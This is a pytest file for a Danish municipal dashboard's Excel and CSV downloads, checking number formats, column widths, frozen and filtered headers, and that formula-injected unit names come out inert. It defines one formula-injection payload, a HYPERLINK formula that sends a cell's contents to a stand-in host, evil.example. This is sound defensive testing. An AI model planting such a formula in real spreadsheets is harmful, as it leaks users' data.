"""Every Excel and CSV file the app offers, downloaded as a leader (and an administrator for the admin's
files) and read back: numbers are numbers with Danish formats, every column has a width from its
content, the header is frozen and filtered, the period and the suppression note are in the header
lines, and a unit renamed through `driftsblik org import` to a formula arrives as inert text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation
from openpyxl.utils import get_column_letter

from driftsblik.budget.services import ledger_import
from driftsblik.budget.tests.helpers import write_ledger
from driftsblik.core import hooks
from driftsblik.dialogue.services import challenge_raise
from driftsblik.efforts.services import effort_create, goal_indicator_add, participant_add, target_set
from driftsblik.engine.generate import generate
from driftsblik.indicators.models import Indicator
from driftsblik.organisation.models import Unit
from driftsblik.organisation.tests.factories import make_user, write_csv
from driftsblik.pathways import services as pathway_services
from driftsblik.ui import downloads, excel, formats
from driftsblik.web.tests.helpers import LATEST, build_municipality, people, set_observation

pytestmark = pytest.mark.django_db
PACKAGE = Path(__file__).resolve().parents[2]
PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"Klik her")'
RENAMED = ("S1", "S1I1", "S1I1T1")  # the sector head's own unit, a child and a team: in every table
NUMBER_AS_TEXT = re.compile(r"^[+-]?\d[\d.,]*( ?%| pct\.-point)?$")
REGISTER_UNITS = {"beskaeftigelse": ["S1I1T1", "S1I1T2"], "unge": ["S1I2T1", "S1I2T2"], "aeldre": ["S3I1T1"]}


@pytest.fixture(scope="module")
def registers(tmp_path_factory):
    out = tmp_path_factory.mktemp("registers")
    generate(out, persons=20000, start="2024-01", end="2025-03", seed=3, units=REGISTER_UNITS)
    return out


@pytest.fixture
def town(settings, tmp_path, registers):
    """The page tests' municipality with a small figure (suppressed), a ledger, a challenge, an effort
    and registers: every table of the app has rows."""
    build_municipality()
    who = people()
    set_observation("clients", "S1I1T1", LATEST, 3)  # a small number: "<5" and the note
    rows = []
    for n, team in enumerate(t for t in Unit.objects.values_list("id", flat=True) if t.startswith("S1I")):
        rows.append(["2025-01", team, "5.30.26", 1, "1.0", "oprindeligt budget", 1_200_000 + 10_000 * n])
        for month in range(1, 4):
            rows.append([f"2025-{month:02d}", team, "5.30.26", 1, "1.0", "forbrug", 110_000 + 1_000 * n])
    ledger_import(path=write_ledger(tmp_path / "ledger.csv", rows))
    challenge_raise(
        author=who["director"],
        unit=Unit.objects.get(id="S1"),
        indicator=Indicator.objects.get(code="visits"),
        period=str(LATEST),
        question="Hvorfor falder besøgene?",
    )
    effort = effort_create(
        code="flere-i-job",
        name="Flere i job",
        owner=who["directorate"],
        start=dt.date(2024, 1, 1),
        phase="implementation",
    )
    for code in ("in_job", "clients"):
        goal_indicator_add(effort=effort, indicator=Indicator.objects.get(code=code))
    for team in ("S1I1T1", "S1I2T1"):
        participant_add(effort=effort, unit=Unit.objects.get(id=team), contact_name=f"Kontakt {team}", role="Udfører")
    participant_add(effort=effort, partner="EUC Nord", contact_name="Erik", role="Uddannelse")
    target_set(effort=effort, indicator=Indicator.objects.get(code="in_job"), year=2025, value=Decimal(55))
    settings.REGISTERS = str(registers)
    pathway_services.cache_clear()
    yield who
    pathway_services.cache_clear()


def leader_files() -> dict[str, str]:
    """Every download a sector head can make from the pages, by name."""
    period = f"?periode={LATEST}"
    # followed longer than 3 months, this sector's youth page has counts the marks alone pin: withheld
    pathway = {"kohorte": "youth_neet", "start": "2024-04", "maaneder": "3", "enhed": "S1"}
    return {
        "scorecard": f"/eksport/scorecard/S1/{period}",
        "below": f"/eksport/below/S1/{period}",
        "children": f"/eksport/children/S1/{period}",
        "peers": f"/eksport/peers/S1/{period}",
        "breakdown": f"/eksport/breakdown/S1I1/{period}&indikator=clients",
        "months": f"/eksport/months/S1/{period}&indikator=in_job",
        "budget": reverse("budget:export", args=["S1"]) + period,
        "dialogue.quality": "/dialog/opfoelgning/?format=xlsx",
        "efforts.participants": f"/indsatser/flere-i-job/deltagere.xlsx{period}",
        "pathways": reverse("pathways:export") + "?" + "&".join(f"{k}={v}" for k, v in pathway.items()),
    }


ADMIN_FILES = {"audit.csv": "dialogue.export", "audit.xlsx": "dialogue.export", "queries.csv": "pathways.admin"}


def admin_files(client) -> dict[str, object]:
    """The administrator's downloads in the admin (audit log, pathway query log)."""
    audit = [str(pk) for pk in _audit_ids()]
    return {
        "audit.csv": client.post("/admin/dialogue/auditentry/", {"action": "export_csv", "_selected_action": audit}),
        "audit.xlsx": client.post("/admin/dialogue/auditentry/", {"action": "export_xlsx", "_selected_action": audit}),
        "queries.csv": client.post(
            "/admin/pathways/pathwayquery/", {"action": "export_csv", "_selected_action": _query_ids()}
        ),
    }


def _audit_ids():
    from driftsblik.dialogue.models import AuditEntry

    return list(AuditEntry.objects.values_list("pk", flat=True))


def _query_ids():
    from driftsblik.pathways.models import PathwayQuery

    return [str(pk) for pk in PathwayQuery.objects.values_list("pk", flat=True)]


def fetch_all(client, town) -> dict[str, object]:
    client.force_login(town["sector"])
    responses = {name: client.get(url) for name, url in leader_files().items()}
    client.force_login(make_user("admin@example.dk", superuser=True))
    responses.update(admin_files(client))
    for name, response in responses.items():
        assert response.status_code == 200, name
        assert response["Content-Disposition"].startswith("attachment; "), name
    return responses


def sheets(response) -> list:
    return openpyxl.load_workbook(io.BytesIO(response.getvalue())).worksheets


def table_start(sheet) -> int:
    """The row of the column titles: the first row after the blank line under the header lines."""
    for row in range(2, sheet.max_row + 1):
        if all(cell.value is None for cell in sheet[row]):
            return row + 1
    raise AssertionError(f"{sheet.title}: no blank line between the header lines and the table")


def label(text: str) -> str:
    with translation.override(settings.LANGUAGE_CODE):
        return translation.gettext(text)


def test_every_excel_file_is_ready_to_filter_and_sum(client, town):
    responses = fetch_all(client, town)
    workbooks = {name: r for name, r in responses.items() if not name.endswith(".csv")}
    assert len(workbooks) == 11
    suppressed_somewhere = set()
    for name, response in workbooks.items():
        assert response["Content-Type"] == downloads.XLSX_TYPE, name
        for sheet in sheets(response):
            where = f"{name} [{sheet.title}]"
            head = table_start(sheet)
            last = get_column_letter(sheet.max_column)
            assert sheet["A1"].font.b and sheet["A1"].value, f"{where}: a title in bold"
            assert sheet.freeze_panes == f"A{head + 1}", f"{where}: the column titles stay in view"
            assert sheet.auto_filter.ref == f"A{head}:{last}{sheet.max_row}", f"{where}: a filter over the table"
            assert all(c.font.b for c in sheet[head] if c.value is not None), f"{where}: bold column titles"
            assert sheet.max_row > head, f"{where}: the table has rows"
            for index in range(1, sheet.max_column + 1):
                dimension = sheet.column_dimensions[get_column_letter(index)]
                assert dimension.customWidth and excel.MIN_WIDTH <= dimension.width <= excel.MAX_WIDTH, (where, index)
            labels = [sheet.cell(row, 1).value for row in range(2, head - 1)]
            texts = [str(sheet.cell(row, 2).value) for row in range(2, head - 1)]
            assert label("Downloaded by") in labels, where
            body = [cell for row in sheet.iter_rows(min_row=head + 1) for cell in row]
            for cell in body:
                _check_cell(where, cell)
            hidden = any(cell.value == "<5" for cell in body)
            if hidden:
                suppressed_somewhere.add(name)
                assert label("Small numbers") in labels, f"{where}: the suppression note above the table"
            if name not in ("audit.xlsx", "pathways"):  # the audit log's rows are dated; a cohort has its month 0
                assert label("Period") in labels and any(t for t in texts), f"{where}: the period above the table"
            texts_a = [len(c.value) for c in sheet["A"][head - 1 :] if isinstance(c.value, str)]
            assert sheet.column_dimensions["A"].width >= min(max(texts_a) + 2, excel.MAX_WIDTH), f"{where}: width"
    assert {"below", "breakdown"} <= suppressed_somewhere


def _check_cell(where: str, cell) -> None:
    value, fmt = cell.value, cell.number_format
    assert cell.data_type != "f", f"{where} {cell.coordinate}: a formula"
    if isinstance(value, str):
        assert not NUMBER_AS_TEXT.match(value), f"{where} {cell.coordinate}: the number {value!r} written as text"
        return
    if isinstance(value, bool) or value is None or isinstance(value, dt.datetime):
        return
    assert isinstance(value, int | float), f"{where} {cell.coordinate}: {value!r}"
    assert fmt != "General" and "#,##0" in fmt or "0.0" in fmt, f"{where} {cell.coordinate}: format {fmt!r}"
    if "%" in fmt:
        assert "pct.-point" not in fmt and -10 < value < 10, f"{where} {cell.coordinate}: a share, not a percent"


def shown(cell) -> str:
    """How a number cell reads in a Danish Excel, from its number format (for the column's width)."""
    fmt, value = cell.number_format, cell.value
    places = len(fmt.split(";")[0].split(".")[1].split(" ")[0].rstrip('"%')) if "." in fmt.split(";")[0] else 0
    if "pct.-point" in fmt:
        return formats.points_da(value, places)
    if fmt.rstrip().endswith("%"):
        return formats.percent_da(value * 100, places)
    return formats.number_da(value, places, sign=fmt.startswith("+"))


def test_every_column_is_as_wide_as_what_it_shows(client, town):
    """Widths from the content: no column title, text or number is cut off (up to the widest allowed)."""
    for name, response in fetch_all(client, town).items():
        if name.endswith(".csv"):
            continue
        for sheet in sheets(response):
            head = table_start(sheet)
            for index in range(1, sheet.max_column + 1):
                letter = get_column_letter(index)
                column = sheet[letter][head - 1 :]
                reads = [c.value for c in column if isinstance(c.value, str)]
                reads += [
                    shown(c) for c in column if isinstance(c.value, int | float) and not isinstance(c.value, bool)
                ]
                longest = max((len(text) for text in reads), default=0)
                width = sheet.column_dimensions[letter].width
                assert width >= min(longest + 2, excel.MAX_WIDTH), (
                    f"{name} [{sheet.title}] {letter}: {width} < {longest}"
                )


# the target and the status wherever the page shows them beside the figures: (file, column titles or endings)
TARGETS_AND_STATUS = {
    "scorecard": ("Mål", "Status", "Mål for året", "Status for prognosen"),
    "below": (": mål", ": status"),
    "children": (": mål", ": status"),
    "breakdown": ("Mål", "Status"),
    "months": ("Mål",),
    "budget": ("Status",),
    "dialogue.quality": ("Status",),
    "efforts.participants": (": status",),
}


def test_targets_and_status_are_in_every_file_whose_page_shows_them(client, town):
    books = {name: sheets(response) for name, response in fetch_all(client, town).items() if name in TARGETS_AND_STATUS}
    for name, wanted in TARGETS_AND_STATUS.items():
        sheet = books[name][0]
        titles = [str(c.value) for c in sheet[table_start(sheet)] if c.value]
        for title in wanted:
            assert any(t == title or (title.startswith(":") and t.endswith(title)) for t in titles), (name, title)
    # the follow-up page states its target in a sentence: the file says it above the table
    quality = books["dialogue.quality"][0]
    lines = {quality.cell(r, 1).value: quality.cell(r, 2).value for r in range(2, table_start(quality) - 1)}
    assert lines["Mål"] == "80 % besvaret til tiden; gul fra 60 %"
    assert str(lines["Periode"]).startswith("Alle udfordringer til og med ")


def test_shares_are_percentages_and_changes_between_shares_are_points(client, town):
    client.force_login(town["sector"])
    card = sheets(client.get(f"/eksport/scorecard/S1/?periode={LATEST}"))[0]
    head = table_start(card)
    titles = [c.value for c in card[head]]
    row = next(r for r in card.iter_rows(min_row=head + 1) if r[1].value == "Andel i job")
    value, change = row[titles.index(label("Value"))], row[titles.index(label("Change from previous period"))]
    assert value.number_format.endswith("%") and 0 < value.value < 1
    assert "pct.-point" in change.number_format and "%" not in change.number_format.replace("pct.-point", "")
    below = sheets(client.get(f"/eksport/below/S1/?periode={LATEST}"))[0]
    titles = [c.value for c in below[table_start(below)]]
    assert any(t.startswith("Andel i job") and t != "Andel i job" for t in titles), "targets and status per indicator"
    status_column = titles.index(label("%(indicator)s: status") % {"indicator": "Andel i job"})
    words = {c[status_column].value for c in below.iter_rows(min_row=table_start(below) + 1)}
    assert words - {None, ""}, "the status of every unit below, in words"


def test_the_pathway_file_writes_persons_and_shares_as_numbers(client, town):
    client.force_login(town["analyst"])  # nothing hidden: every count is a number
    book = sheets(client.get(leader_files()["pathways"]))
    header = {book[0].cell(r, 1).value: book[0].cell(r, 2).value for r in range(2, table_start(book[0]) - 1)}
    persons = next(
        r for r in range(2, table_start(book[0])) if book[0].cell(r, 1).value == label("Persons in the cohort")
    )
    assert isinstance(header[label("Persons in the cohort")], int) and book[0].cell(persons, 2).number_format == "#,##0"
    silos = book[2]
    shares = [r[4] for r in silos.iter_rows(min_row=table_start(silos) + 1)]
    assert any(isinstance(c.value, int | float) and c.number_format.endswith("%") for c in shares)
    assert all(c.value is None or c.number_format.endswith("%") for c in shares)


def rename(tmp_path, names: dict[str, str]) -> None:
    """Rename units from today through the real organisation import, as an administrator would."""
    today = dt.date.today()
    rows = [["unit_id", "parent_id", "name", "kind", "valid_from", "valid_to", "leader_email", "leader_name"]]
    for unit_id, new_name in names.items():
        span = Unit.objects.get(id=unit_id).spans.get(valid_to__isnull=True)
        closed = today - dt.timedelta(days=1)
        rows.append([unit_id, span.parent_id or "", span.name, span.kind, span.valid_from, closed, "", ""])
        rows.append([unit_id, span.parent_id or "", new_name, span.kind, today, "", "", ""])
    call_command("org", "import", str(write_csv(tmp_path / "rename.csv", rows)))


def test_a_unit_named_as_a_formula_is_inert_text_in_every_download(client, town, tmp_path):
    rename(tmp_path, dict.fromkeys(RENAMED, PAYLOAD))
    responses = fetch_all(client, town)
    carried = set()
    for name, response in responses.items():
        if name.endswith(".csv"):
            rows = list(
                csv.reader(io.StringIO(response.getvalue().decode("utf-8")), delimiter=";" if "audit" in name else ",")
            )
            cells = [value for row in rows for value in row]
            assert not [v for v in cells if v.startswith(excel.FORMULA_TRIGGERS)], name
            continue
        for sheet in sheets(response):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name} {sheet.title} {cell.coordinate}: a live formula"
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(excel.FORMULA_TRIGGERS), (name, cell.coordinate, cell.value)
                        if cell.value.startswith("'" + PAYLOAD):
                            carried.add(name)
    expected = {name for name in responses if not name.endswith(".csv") and name != "audit.xlsx"}
    assert expected <= carried, f"the renamed unit is in every table: missing in {expected - carried}"


def test_every_download_the_app_declares_is_fetched_here():
    """A new Excel table is registered (hooks.ExcelTable) and a new CSV writer names its file: both
    must be added to the downloads fetched above."""
    assert set(leader_files()) == {table.name for table in hooks.entries(hooks.ExcelTable)}
    declared = set()
    for path in PACKAGE.rglob("*.py"):
        parts = path.relative_to(PACKAGE).parts
        if "tests" not in parts and parts[0] != "ui" and 'extension="csv"' in path.read_text(encoding="utf-8"):
            declared.add(".".join(path.relative_to(PACKAGE).with_suffix("").parts))
    assert declared == set(ADMIN_FILES.values())
